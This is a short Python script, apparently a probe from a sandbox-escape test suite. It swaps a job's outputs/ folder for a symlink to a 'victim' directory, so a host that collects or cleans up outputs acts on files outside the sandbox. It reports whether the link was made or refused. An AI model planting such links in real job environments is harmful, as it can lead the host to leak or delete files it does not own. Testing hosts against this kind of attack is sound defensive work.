"""Puts a link to the victim folder in the place of outputs/.
Success: the host collects from there, or cleans up there."""
import json
import os

FACTS = json.loads(os.environ.get("HOST_FACTS", "{}"))
print("begin", flush=True)
try:
    if os.path.isdir("outputs"):
        os.rename("outputs", "outputs-before")
    os.symlink(FACTS.get("victimDir", "/tmp"), "outputs")
    print("MADE: a link instead of outputs", flush=True)
except OSError as error:
    print("REFUSED: %s" % error.strerror, flush=True)
